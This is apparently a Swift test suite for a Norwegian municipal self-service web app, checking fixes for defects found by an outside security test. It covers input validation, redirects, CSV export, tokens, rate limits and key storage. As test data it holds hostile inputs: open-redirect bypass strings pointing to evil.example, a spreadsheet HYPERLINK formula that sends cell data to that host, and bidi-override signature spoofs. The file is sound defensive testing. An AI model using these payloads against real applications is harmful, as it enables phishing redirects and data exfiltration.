import Fluent
import Foundation
import RadhusCore
import SQLKit
import Testing
import VaporTesting

@testable import App

/// Issue 17's defects, each reproduced as the outside test found it.
extension AppTests {
    @Suite struct HostileInputTests {
        /// Defects 1 and 2: a NUL (or a bidi override) in a name is refused at the field, with what
        /// was typed kept; nothing is stored, so the journal still verifies and nothing reaches the
        /// public journal unscreened.
        @Test func invisibleCharactersInAnswersAreRefusedAtTheFieldAndTheJournalStillVerifies() async throws {
            try await withRadhus { app in
                // setup: one ordinary application, journaled
                let citizen = WebClient(app)
                try await citizen.loginCitizen(People.ida)
                _ = try await citizen.applySkoleskyss()
                try await JournalRegistrar(app: app).registerPending()
                let casesBefore = try await CaseRecord.query(on: app.db).count()
                for hostile in ["abc\u{0}def", "Kari Nordmann\u{0} X", "Kari \u{202E}nnamdroN", "Kari\u{1B}[31m"] {
                    // act
                    try await citizen.get("/k/5503/skoleskyss/soknad")
                    let page = try await citizen.post(
                        "/k/5503/skoleskyss/soknad",
                        [
                            "elevens_fnr": People.child, "elevens_navn": hostile, "adresse.gate": "Storgata 1",
                            "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
                            "trinn": "3", "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
                        ])
                    // check: a field error that names the character; the other answers kept
                    #expect(page.status == .unprocessableEntity, "\(hostile.debugDescription)")
                    #expect(page.body.contains("inneholder et tegn som ikke synes"))
                    #expect(page.body.contains(##"href="#f-elevens_navn""##))
                    #expect(page.body.contains(#"value="Storgata 1""#))
                }
                // check: nothing stored; the journal verifies; the public journal holds no name
                #expect(try await CaseRecord.query(on: app.db).count() == casesBefore)
                try await JournalRegistrar(app: app).registerPending()
                guard case .success = try await ArchiveVerifier(db: app.db).verify() else {
                    Issue.record("the journal does not verify")
                    return
                }
                let journal = try await WebClient(app).get("/k/5503/postjournal")
                #expect(!journal.body.contains("Kari"))
            }
        }

        /// Defect 1 through the API: the same rule, the same message, as a 422 naming the property.
        @Test func theAPIRefusesInvisibleCharactersInAnswersByName() async throws {
            // setup
            let definition = try #require(
                try ShippedServices.load(from: RadhusConfig.defaultServicesDirectory())
                    .service("skoleskyss"))
            let validator = FormValidator(policy: .synthetic, kommune: "5503", today: Date())
            // act
            let result = validator.validate(
                definition,
                input: [
                    "elevens_fnr": People.child, "elevens_navn": "abc\u{0}def", "adresse.gate": "Storgata\u{202E} 1",
                    "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
                    "trinn": "3", "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
                ])
            // check: both fields named, each with its character
            guard case .failure(let errors) = result else {
                Issue.record("hostile answers validated")
                return
            }
            #expect(errors.map(\.inputID).sorted() == ["adresse.gate", "elevens_navn"])
            #expect(errors.contains { $0.problem == .invisibleCharacter("\u{0}") })
            #expect(errors.contains { $0.problem == .invisibleCharacter("\u{202E}") })
            #expect(Strings(.nb).message(errors[0]).contains("U+"))
        }

        /// Defect 3: browsers drop a tab inside a URL, so `/\t/evil.example` is `//evil.example`.
        @Test func redirectTargetsWithControlCharactersOrBackslashesAreRefused() async throws {
            try await withRadhus { app in
                let web = WebClient(app)
                for evil in [
                    "/%09/evil.example/x", "/%0A/evil.example", "/%0D%0A/evil.example", "/%5Cevil.example",
                    "/%20/evil.example", "//evil.example", "https://evil.example",
                ] {
                    // act
                    let page = try await web.get("/sprak/en?tilbake=\(evil)")
                    // check: home, not the other site; a control character in the address is
                    // refused before any redirect is made (AddressTextMiddleware)
                    #expect(
                        page.location == "/" || (page.status == .badRequest && page.location == nil),
                        "\(evil) → \(page.status) \(page.location ?? "nil")")
                }
                // check: the login page does not carry such a target either
                let login = try await web.get("/logg-inn?neste=/%09/evil.example/x")
                #expect(!login.body.contains("evil.example"))
                #expect(SiteURL.isLocalPath("/k/5503/skoleskyss?steg=2"))
                #expect(!SiteURL.isLocalPath("/\t/evil.example") && !SiteURL.isLocalPath("/\u{0}/x"))
            }
        }

        /// Defect 9: a leader's comment that starts like a formula comes out of the CSV as text.
        @Test func csvCellsThatStartLikeAFormulaAreNeutralised() async throws {
            try await withRadhus(clock: ManualClock(Date(timeIntervalSince1970: 1_793_000_000))) { app in
                // setup
                let leader = WebClient(app)
                try await leader.loginStaff("harstad.leder")
                let formula = #"=HYPERLINK("http://evil.example/?"&A1,"Klikk")"#
                // act
                let saved = try await leader.post(
                    "/ansatt/rapport/kommentar", ["tjeneste": "skoleskyss", "periode": "2026-10", "tekst": formula])
                #expect(saved.status == .seeOther)
                let csv = try await leader.get("/ansatt/rapport.csv?periode=2026-10")
                // check: the cell starts with an apostrophe (quoted, since it holds quotes)
                #expect(csv.body.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Klikk"")""#))
                #expect(!csv.body.contains(#";=HYPERLINK"#))
                // check: the rule itself
                for start in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"] {
                    #expect(CSV.textCell(start).drop { $0 == "\"" }.hasPrefix("'"), "\(start.debugDescription)")
                }
                #expect(CSV.textCell("Skolestart") == "Skolestart")
                #expect(CSV.textCell("a;b") == "\"a;b\"")
            }
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 10: a token signed with the server's key but living ten years is refused; a token
    /// for a client that does not exist is not called withdrawn.
    @Test func tokensLivingLongerThanIssuedOrForNoClientAreRefused() async throws {
        try await withRadhus { app in
            // setup
            let c = try await app.createAPIClient(kommune: "5503", name: "Skolesystem", scopes: ["cases.read"])
            let client = try #require(try await APIClient.query(on: app.db).filter(\.$clientID == c.clientID).first())
            try await APISigningKey.ensure(app)
            let now = app.clock.now()
            func token(sub: String, lifetime: TimeInterval) async throws -> String {
                try await app.jwt.keys.sign(
                    AccessToken(
                        iss: .init(value: AccessToken.issuer), sub: .init(value: sub), iat: .init(value: now),
                        exp: .init(value: now.addingTimeInterval(lifetime)), jti: .init(value: UUID().uuidString),
                        kommune: "5503", scope: "cases.read"))
            }
            let web = WebClient(app)
            func call(_ t: String) async throws -> WebClient.Page {
                var headers = HTTPHeaders()
                headers.add(name: .authorization, value: "Bearer \(t)")
                return try await web.send(.GET, "/api/v1/kommuner/5503/saker", body: nil, extraHeaders: headers)
            }
            // act / check: as issued, ten years, no such client
            #expect(try await call(try await token(sub: client.id!.uuidString, lifetime: 15 * 60)).status == .ok)
            let long = try await call(try await token(sub: client.id!.uuidString, lifetime: 10 * 365 * 86_400))
            #expect(long.status == .unauthorized && long.body.contains("lenger enn tillatt"))
            let nobody = try await call(try await token(sub: UUID().uuidString, lifetime: 60))
            #expect(nobody.status == .unauthorized && nobody.body.contains("ingen kjent klient"))
            #expect(!nobody.body.contains("trukket tilbake"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 10: an API body is JSON in UTF-8 and says so; anything else is 415 with what to send.
    @Test func theAPITakesOnlyJSONInUTF8() async throws {
        try await withRadhus { app in
            // setup
            let c = try await AppTests.PublicAPITests.Client.make(app)
            let json = #"{"applicant":"\#(People.ola)","answers":{}}"#
            var headers = HTTPHeaders()
            headers.add(name: .authorization, value: "Bearer \(c.token)")
            headers.add(name: "Idempotency-Key", value: "ct-1")
            // act / check
            for type in ["", "text/plain", "application/json; charset=latin1", "application/x-www-form-urlencoded"] {
                let page = try await c.web.send(
                    .POST, "/api/v1/kommuner/5503/tjenester/skoleskyss/soknader", body: json, contentType: type,
                    extraHeaders: headers)
                #expect(page.status == .unsupportedMediaType, "\(type): \(page.status)")
                #expect(page.body.contains("Feil innholdstype") && page.body.contains("UTF-8"))
            }
            // check: JSON, with or without its charset, reaches the form's rules (422: the answers are empty)
            for type in ["application/json", "application/json; charset=utf-8"] {
                let page = try await c.web.send(
                    .POST, "/api/v1/kommuner/5503/tjenester/skoleskyss/soknader", body: json, contentType: type,
                    extraHeaders: headers)
                #expect(page.status == .unprocessableEntity, "\(type): \(page.status)")
            }
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 10: a page's form sent as JSON is told what is wrong, not that it has expired.
    @Test func aFormSentAsSomethingElseIsToldSo() async throws {
        try await withRadhus { app in
            // setup
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            _ = try await citizen.get("/k/5503/skoleskyss/soknad")
            // act
            let page = try await citizen.send(
                .POST, "/k/5503/skoleskyss/soknad", body: #"{"_csrf":"\#(citizen.csrf ?? "")"}"#,
                contentType: "application/json")
            // check
            #expect(page.status == .unsupportedMediaType)
            #expect(page.body.contains("application/x-www-form-urlencoded") && !page.body.contains("utløpt"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 10: HEAD is a GET without a body; a method a page does not have is 405 with Allow;
    /// errors are in Norwegian, on pages and in the API.
    @Test func methodsAreAnsweredAsHTTPMeansThem() async throws {
        try await withRadhus { app in
            let web = WebClient(app)
            // act / check: HEAD of a page, through a real server (Vapor's router answers HEAD with
            // the GET route; its HTTP server drops the body and keeps the length)
            let live = try app.testing(method: .running(port: Int.random(in: 30_000...60_000)))
            func request(_ method: HTTPMethod) async throws -> TestingHTTPResponse {
                try await live.performTest(
                    request: .init(method: method, url: .init(path: "/k/5503"), headers: [:], body: ByteBuffer()))
            }
            let get = try await request(.GET)
            let head = try await request(.HEAD)
            #expect(head.status == .ok && head.body.readableBytes == 0)
            #expect(head.headers.first(name: .contentLength) == String(get.body.readableBytes))
            // act / check: methods a page does not have
            for method in [HTTPMethod.OPTIONS, .TRACE, .DELETE] {
                let page = try await web.send(method, "/k/5503", body: nil)
                #expect(page.status == .methodNotAllowed, "\(method)")
                #expect(page.headers.first(name: "Allow") == "GET, HEAD", "\(method)")
            }
            // act / check: a path nobody has is still 404; the API's problems are in Norwegian
            #expect(try await web.get("/finnes-ikke").status == .notFound)
            let api = try await web.send(.TRACE, "/api/v1/kommuner/5503/tjenester", body: nil)
            #expect(api.status == .methodNotAllowed && api.body.contains("Metoden er ikke tillatt"))
            let missing = try await web.get("/api/v1/finnes-ikke")
            #expect(missing.status == .notFound && missing.body.contains("Ikke funnet"))
            #expect(!missing.body.contains("Not Found"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// The content-type rule is for bodies: a GET through the API (no body, no Content-Type) is read.
    @Test func aGETThroughTheAPINeedsNoContentType() async throws {
        try await withRadhus { app in
            let c = try await AppTests.PublicAPITests.Client.make(app)
            #expect(try await c.call(.GET, "/kommuner/5503/saker").status == .ok)
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 8: a signature with a right-to-left override is refused by the API; the legal basis
    /// has one limit in the workspace and the API; invisible characters in the reasons are named.
    @Test func decisionsRefuseSpoofedSignaturesAndHaveOneLimitForTheLegalBasis() async throws {
        try await withRadhus { app in
            // setup
            let c = try await AppTests.PublicAPITests.Client.make(app, name: "Visma Flyt Skole")
            let caseID = try #require(
                try AppTests.PublicAPITests.json(try await c.submit(key: "rlo-1"))["caseId"] as? String)
            // act / check: the API
            let spoofed = try await c.call(
                .POST, "/kommuner/5503/saker/\(caseID)/vedtak",
                json:
                    #"{"outcome":"innvilget","reasons":"Eleven har over 4 km skolevei.","legalBasis":"opplæringslova § 3-7","decidedBy":"Kari \u202Enessuh"}"#
            )
            #expect(spoofed.status == .unprocessableEntity)
            #expect(spoofed.body.contains(#""field":"decidedBy""#) && spoofed.body.contains("U+202E"))
            // act / check: the workspace, with a legal basis the API would refuse too
            let staff = WebClient(app)
            try await staff.loginStaff("harstad.saksbehandler")
            try await staff.get("/ansatt/saker/\(caseID.lowercased())")
            let long = try await staff.post(
                "/ansatt/saker/\(caseID.lowercased())/vedtak",
                [
                    "utfall": "innvilget", "begrunnelse": "Eleven har over 4 km skolevei.\u{0}",
                    "hjemmel": String(repeating: "§", count: DecisionDraft.legalBasisMax + 1),
                ])
            #expect(long.status == .unprocessableEntity)
            #expect(long.body.contains("Hjemmelen kan ha høyst 500 tegn"))
            #expect(long.body.contains("Begrunnelsen inneholder et tegn som ikke synes (U+0000 (NUL))"))
            #expect(try await DecisionRecord.query(on: app.db).count() == 0)
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defects 6 and 12: an automated decision's receipt says the outcome; its letter says where
    /// to ask for a caseworker's review and where to appeal, with the saksnummer.
    @Test func automatedDecisionsSayTheOutcomeAndHowToAppeal() async throws {
        try await withRadhus { app in
            // act
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ola)
            let receiptPath = try await citizen.applySkoleskyss(needsCaseworker: false)
            let receipt = try await citizen.get(receiptPath)
            // check: the receipt
            #expect(receipt.body.contains("Vedtak: Innvilget – gratis skoleskyss"))
            // check: the letter and the decision on record
            let record = try #require(try await CaseRecord.query(on: app.db).first())
            let letter = try #require(try await LetterRecord.query(on: app.db).first())
            let nr = record.saksnummer.description
            #expect(
                letter.body.contains(
                    "Be om det på e-post til postmottak@harstad.kommune.no eller i brev til Harstad kommune, og oppgi saksnummer \(nr)."
                ), "\(letter.body)")
            #expect(letter.body.contains("Send klagen på e-post til postmottak@harstad.kommune.no"))
            let decision = try #require(try await DecisionRecord.query(on: app.db).first())
            #expect(decision.appealInformation.contains("postmottak@harstad.kommune.no"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 5: anonymous writes from one address are limited (429 with Retry-After and a
    /// Norwegian message); a logged-in citizen is not counted; the bucket refills with time.
    @Test func anonymousWritesAreLimitedPerAddress() async throws {
        let clock = ManualClock(Date(timeIntervalSince1970: 1_793_000_000))
        try await withRadhus(clock: clock, tweak: { $0.anonymousWritesPerMinute = 5 }) { app in
            // setup: an entry in the public journal
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            _ = try await citizen.applySkoleskyss()
            try await JournalRegistrar(app: app).registerPending()
            let entry = try #require(try await JournalEntry.query(on: app.db).first())
            let path = SiteURL.accessRequest("5503", entry.id!).path
            let visitor = WebClient(app)
            _ = try await visitor.get(path)
            // act: ten requests for access at once
            var statuses: [HTTPStatus] = []
            var last: WebClient.Page? = nil
            for i in 0..<10 {
                let page = try await visitor.post(
                    path, ["navn": "Kari \(i)", "epost": "kari@avisa.no", "melding": "Ber om innsyn."])
                statuses.append(page.status)
                last = page
            }
            // check: four went through (the citizen's login, from the same in-memory address, took the
            // fifth), six were refused with when to try again
            #expect(statuses.filter { $0 == .ok }.count == 4, "\(statuses)")
            #expect(statuses.filter { $0 == .tooManyRequests }.count == 6, "\(statuses)")
            #expect(last?.headers.first(name: "Retry-After") == "12")
            #expect(last?.body.contains("Vent 12 sekunder og prøv igjen") == true)
            #expect(try await CaseRecord.query(on: app.db).filter(\.$serviceID == "innsynskrav").count() == 4)
            // check: a bearer header of one's own making does not get round the limit
            var bearer = HTTPHeaders()
            bearer.add(name: .authorization, value: "Bearer x")
            let dodged = try await visitor.send(
                .POST, path,
                body: WebClient.encode(["navn": "Kari", "epost": "kari@avisa.no", "_csrf": visitor.csrf ?? ""]),
                extraHeaders: bearer)
            #expect(dodged.status == .tooManyRequests)
            // check: the form's own fields refuse invisible characters too, field by field (this is one
            // more write: the bucket is empty, so first a minute passes)
            clock.advance(by: 60)
            let hostile = try await visitor.post(
                path, ["navn": "Kari\u{202E}", "epost": "kari@avisa.no", "melding": "Ber\u{0} om innsyn."])
            #expect(hostile.status == .unprocessableEntity)
            #expect(hostile.body.contains("href=\"#f-navn\"") && hostile.body.contains("href=\"#f-melding\""))
            // what was typed is kept, the refused character shown as �
            #expect(hostile.body.contains("Ber\u{FFFD} om innsyn.") && !hostile.body.contains("\u{0}"))
            #expect(hostile.body.contains("U+202E") && hostile.body.contains("U+0000"))
            // check: a logged-in citizen is not counted; a minute later the visitor may write again
            _ = try await citizen.applySkoleskyss()
            clock.advance(by: 60)
            let later = try await visitor.post(path, ["navn": "Kari", "epost": "kari@avisa.no", "melding": "Igjen."])
            #expect(later.status == .ok)
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 12: the test login lists the synthetic children to apply for, not only the adults.
    @Test func theTestLoginListsTheChildrenToApplyFor() async throws {
        try await withRadhus(mode: .demo) { app in
            let page = try await WebClient(app).get("/logg-inn")
            for child in DemoData.children { #expect(page.body.contains(child.fnr), "\(child.name)") }
            #expect(page.body.contains("Syntetiske barn du kan søke for"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defects 5 and 11: a session row holds a reference to the citizen, never their
    /// fødselsnummer, and no draft either: since issue 19 a draft (with a child's number) is
    /// the person's, kept on the server for 30 days to be resumed on another device, not the
    /// session's; logging out ends the session and leaves the draft.
    @Test func sessionsHoldNoFodselsnummerAndEndWithTheirDrafts() async throws {
        let clock = ManualClock(Date())
        try await withRadhus(mode: .demo, clock: clock) { app in
            func sessionTexts() async throws -> [String] {
                try await SessionRecord.query(on: app.db).all().map(\.data)
            }
            // act: sign in and leave a draft on the check page
            let web = WebClient(app)
            try await web.loginCitizen(People.ida)
            try await web.get("/k/5503/skoleskyss/soknad")
            let checked = try await web.post(
                "/k/5503/skoleskyss/soknad",
                [
                    "elevens_fnr": People.child, "elevens_navn": "Noah Prøvestad", "adresse.gate": "Storgata 1",
                    "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
                    "trinn": "3", "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "nei",
                ])
            #expect(checked.status == .seeOther)
            // check: the session refers to the person; the draft is there, the signed-in number is not
            let texts = try await sessionTexts()
            #expect(texts.count == 1)
            #expect(!texts.joined().contains(People.ida), "the signed-in citizen's number is not in the session")
            #expect(!texts.joined().contains(People.child), "the draft is not in the session")
            let drafts = try await app.db.sql.raw("SELECT COUNT(*) AS n FROM drafts").first()?.decode(
                column: "n", as: Int.self)
            #expect(drafts == 1, "the draft is the person's, on the server")
            #expect(try await web.get("/mine-saker").status == .ok, "the reference still signs the citizen in")
            // act / check: logging out deletes the session; the draft stays for the next login
            try await web.post("/logg-ut")
            #expect(try await sessionTexts().isEmpty)
            let again = WebClient(app)
            try await again.loginCitizen(People.ida)
            #expect(try await again.get("/k/5503/skoleskyss/soknad").body.contains("Noah Prøvestad"))
            try await again.post("/logg-ut")

            // act: another person signs in, writes a draft and goes away; the session expires
            let gone = WebClient(app)
            try await gone.loginCitizen(People.ola)
            #expect(try await sessionTexts().count == 1)
            clock.advance(by: app.radhusConfig.sessionLifetime + 1)
            // check: an expired session's cookie signs no one in, and its stale cookie makes no new row
            #expect(try await gone.get("/mine-saker").status == .seeOther)
            #expect(try await sessionTexts().count == 1)
            // act: the sweep
            let swept = try await SessionSweepJob(app: app).run()
            // check: the expired session is gone
            #expect(swept.done == 1)
            #expect(try await sessionTexts().isEmpty)
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 8: bytes that are not UTF-8 in one field lose nothing else: the form comes back with
    /// that field named and every other answer kept (Vapor's decoder gave up on the whole body,
    /// and the handler showed an empty form).
    @Test func aValueThatIsNotUTF8IsNamedAndTheRestKept() async throws {
        try await withRadhus { app in
            // setup
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            try await citizen.get("/k/5503/skoleskyss/soknad")
            let fields = WebClient.encode([
                "_csrf": citizen.csrf ?? "", "elevens_fnr": People.child, "adresse.gate": "Storgata 1",
                "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole", "trinn": "3",
                "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
            ])
            // act: a Latin-1 «Prøvestad» (ø is the single byte F8)
            let page = try await citizen.send(
                .POST, "/k/5503/skoleskyss/soknad", body: fields + "&elevens_navn=Noah%20Pr%F8vestad")
            // check
            #expect(page.status == .unprocessableEntity)
            #expect(page.body.contains(##"href="#f-elevens_navn""##))
            #expect(page.body.contains("ikke kunne leses"))
            #expect(page.body.contains(#"value="Storgata 1""#) && page.body.contains(#"value="9405""#))
            #expect(try await CaseRecord.query(on: app.db).count() == 0)
        }
    }

    /// Defects 2 and 8 in the workspace: a form whose handler does not show problems at its
    /// fields (a leader's report comment) is refused whole before the handler runs, naming the
    /// field and showing what was typed; nothing is stored.
    @Test func workspaceFormsRefuseInvisibleCharactersBeforeTheirHandlers() async throws {
        try await withRadhus { app in
            // setup
            let leader = WebClient(app)
            try await leader.loginStaff("harstad.leder")
            try await leader.get("/ansatt/rapport")
            // act
            let page = try await leader.post(
                "/ansatt/rapport/kommentar", ["tjeneste": "skoleskyss", "periode": "2026", "tekst": "Bra\u{0} år"])
            // check
            #expect(page.status == .unprocessableEntity)
            #expect(page.body.contains("Feltet «tekst»") && page.body.contains("U+0000"))
            #expect(page.body.contains("Bra\u{FFFD} år"), "what was typed, the refused character as �")
            #expect(try await app.db.sql.select().column("id").from("report_notes").all().isEmpty)
        }
    }

    /// Defect 8: a field or a JSON property sent twice is refused (a form kept the last, JSON the
    /// first): one rule for both.
    @Test func aFieldOrPropertySentTwiceIsRefused() async throws {
        try await withRadhus { app in
            // act: a form
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            try await citizen.get("/k/5503/skoleskyss/soknad")
            let form = try await citizen.send(
                .POST, "/k/5503/skoleskyss/soknad",
                body: WebClient.encode(["_csrf": citizen.csrf ?? "", "trinn": "3"]) + "&trinn=9")
            // check
            #expect(form.status == .badRequest)
            #expect(form.body.contains("Feltet «trinn» ble sendt mer enn én gang"))
            // act: the API, a key twice in the answers (and once escaped)
            let c = try await AppTests.PublicAPITests.Client.make(app)
            var headers = HTTPHeaders()
            headers.add(name: .authorization, value: "Bearer \(c.token)")
            headers.add(name: "Idempotency-Key", value: "dup-1")
            for json in [
                #"{"applicant":"\#(People.ola)","answers":{"trinn":"3","trinn":"9"}}"#,
                #"{"applicant":"\#(People.ola)","answers":{"trinn":"3","\u0074rinn":"9"}}"#,
            ] {
                let api = try await c.web.send(
                    .POST, "/api/v1/kommuner/5503/tjenester/skoleskyss/soknader", body: json,
                    contentType: "application/json", extraHeaders: headers)
                // check
                #expect(api.status == .badRequest)
                #expect(api.body.contains("answers.trinn"))
            }
            #expect(try await CaseRecord.query(on: app.db).count() == 0)
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 7: a date is a text field that takes dd.mm.åååå and says so (`type=date` shows the
    /// browser's format, which swapped day and month outside a Norwegian browser); the date
    /// typed is the date read, and the way back from the check page shows it as it was typed.
    @Test func datesAreWrittenDayMonthYear() async throws {
        try await withRadhus { app in
            // setup: a start date three weeks ahead with a day above 12, so a swap cannot pass
            let cal = NorwegianCalendar()
            var start = cal.addingCalendarDays(21, to: cal.startOfDay(Date()))
            while Calendar(identifier: .gregorian).component(.day, from: start) <= 12 {
                start = cal.addingCalendarDays(1, to: start)
            }
            let typed = cal.norwegianDate(start)
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            // act
            let form = try await citizen.get("/k/5503/barnehageplass/soknad")
            // check: a text field with the format in its hint
            #expect(form.body.contains(#"type="text" id="f-oppstart""#))
            #expect(!form.body.contains(#"type="date""#))
            #expect(form.body.contains("Skriv datoen som dd.mm.åååå."))
            // act
            let sent = try await citizen.post(
                "/k/5503/barnehageplass/soknad",
                [
                    "barnets_fnr": People.child, "barnets_navn": "Noah Prøvestad", "oppstart": typed,
                    "barnehage": "kanebogen", "omfang": "heltid", "nedsatt_funksjonsevne": "nei", "barnevern": "nei",
                    "sosken": "nei",
                ])
            #expect(sent.status == .seeOther, "\(sent.status)")
            // check: the check page and the way back show the same day
            #expect(try await citizen.get("/k/5503/barnehageplass/sjekk").body.contains(typed))
            #expect(try await citizen.get("/k/5503/barnehageplass/soknad").body.contains(#"value="\#(typed)""#))
            // act / check: the month first is refused, not read as another day
            let comps = Calendar(identifier: .gregorian).dateComponents([.day, .month, .year], from: start)
            let swapped = String(format: "%02d.%02d.%04d", comps.month!, comps.day!, comps.year!)
            let refused = try await citizen.post(
                "/k/5503/barnehageplass/soknad",
                [
                    "barnets_fnr": People.child, "barnets_navn": "Noah Prøvestad", "oppstart": swapped,
                    "barnehage": "kanebogen", "omfang": "heltid", "nedsatt_funksjonsevne": "nei", "barnevern": "nei",
                    "sosken": "nei",
                ])
            #expect(refused.status == .unprocessableEntity)
            #expect(refused.body.contains(##"href="#f-oppstart""##))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 8: a whole-number field (`decimals: 0`, the grade) refuses «1,5» with a message that
    /// asks for a whole number (it suggested «3,5»), and still takes «3,0»; other numbers keep
    /// their decimals.
    @Test func wholeNumberFieldsRefuseDecimals() throws {
        // setup
        let definition = try #require(
            try ShippedServices.load(from: RadhusConfig.defaultServicesDirectory()).service("skoleskyss"))
        let validator = FormValidator(policy: .synthetic, kommune: "5503", today: Date())
        func answers(grade: String) -> [String: String] {
            [
                "elevens_fnr": People.child, "elevens_navn": "Noah Prøvestad", "adresse.gate": "Storgata 1",
                "adresse.postnummer": "9405", "adresse.poststed": "Harstad", "skole": "kanebogen-skole",
                "trinn": grade, "avstand_km": "5,5", "farlig_skolevei": "nei", "helsebehov": "ja",
            ]
        }
        // act / check
        for refused in ["1,5", "2.25", "tre"] {
            guard case .failure(let errors) = validator.validate(definition, input: answers(grade: refused)) else {
                Issue.record("\(refused) accepted as a grade")
                continue
            }
            #expect(errors.map(\.inputID) == ["trinn"])
            #expect(Strings(.nb).message(errors[0]) == "«Trinn» må være et helt tall, for eksempel 3")
        }
        guard case .success(let ok) = validator.validate(definition, input: answers(grade: "3,0")) else {
            Issue.record("3,0 refused")
            return
        }
        #expect(ok.values["trinn"] == "3" && ok.values["avstand_km"] == "5.5")
    }
}

extension AppTests.HostileInputTests {
    /// Defect 12: the same application sent again is marked on the case page, with links to the
    /// others; a different application for the same child is not.
    @Test func identicalOpenApplicationsAreMarkedAsPossibleDuplicates() async throws {
        try await withRadhus { app in
            // setup: two identical applications and one with another grade
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            _ = try await citizen.applySkoleskyss()
            _ = try await citizen.applySkoleskyss()
            _ = try await citizen.applySkoleskyss(grade: "4")
            let cases = try await CaseRecord.query(on: app.db).sort(\.$saksSequence).all()
            #expect(cases.count == 3)
            let staff = WebClient(app)
            try await staff.loginStaff("harstad.saksbehandler")
            // act
            let first = try await staff.get("/ansatt/saker/\(cases[0].id!.uuidString.lowercased())")
            let other = try await staff.get("/ansatt/saker/\(cases[2].id!.uuidString.lowercased())")
            // check
            #expect(first.body.contains("Mulig dobbel søknad: én annen åpen sak har nøyaktig de samme svarene."))
            #expect(first.body.contains(#"href="/ansatt/saker/\#(cases[1].id!.uuidString.lowercased())""#))
            #expect(!other.body.contains("Mulig dobbel søknad"))
        }
    }
}

extension AppTests.HostileInputTests {
    /// Defect 10: with RADHUS_KEY_ENCRYPTION_KEY the server's secrets are stored encrypted, so a
    /// copy of the database alone cannot mint tokens; tokens and forms work as before; another key
    /// cannot open them, and a start without the key says what to set.
    @Test func serverKeysAreStoredEncryptedUnderTheKeyFromTheEnvironment() async throws {
        let kek = "test-key-encryption-key-of-32-characters-or-more"
        try await withRadhus(tweak: { $0.keyEncryptionKey = kek }) { app in
            // act: a token (the signing key is made) and a page with a form (the CSRF key)
            let c = try await AppTests.PublicAPITests.Client.make(app)
            var headers = HTTPHeaders()
            headers.add(name: .authorization, value: "Bearer \(c.token)")
            let read = try await c.web.send(.GET, "/api/v1/kommuner/5503/saker", body: nil, extraHeaders: headers)
            // check: the API works; every stored secret is sealed and opens only with the key
            #expect(read.status == .ok)
            let rows = try await app.db.sql.select().columns("name", "secret").from("server_keys").all()
            #expect(Set(try rows.map { try $0.decode(column: "name", as: String.self) }) == ["jwt-hs256", "csrf-hmac"])
            for row in rows {
                let stored = try row.decode(column: "secret", as: String.self)
                #expect(stored.hasPrefix(ServerKeys.prefix))
                #expect(try ServerKeys.open(stored, with: ServerKeys.encryptionKey(kek)).count == 64)
                #expect(throws: RadhusError.self) {
                    try ServerKeys.open(stored, with: ServerKeys.encryptionKey(kek + "x"))
                }
            }
            // check: pages' forms work with the sealed CSRF key
            let citizen = WebClient(app)
            try await citizen.loginCitizen(People.ida)
            #expect(try await citizen.post("/logg-ut").status == .seeOther)
        }
        // act / check: a secret stored in clear is sealed at its first read with the key, and
        // without the key an encrypted one is refused with what to set
        try await withRadhus { app in
            let plain = try await ServerKeys.secret("jwt-hs256", app: app)
            app.radhusConfig.keyEncryptionKey = kek
            #expect(try await ServerKeys.secret("jwt-hs256", app: app) == plain)
            let stored = try #require(
                try await app.db.sql.select().column("secret").from("server_keys").where("name", .equal, "jwt-hs256")
                    .first()?.decode(column: "secret", as: String.self))
            #expect(stored.hasPrefix(ServerKeys.prefix) && !stored.contains(plain))
            app.radhusConfig.keyEncryptionKey = nil
            await #expect(throws: ServerKeys.Locked.self) { try await ServerKeys.secret("jwt-hs256", app: app) }
        }
    }
}
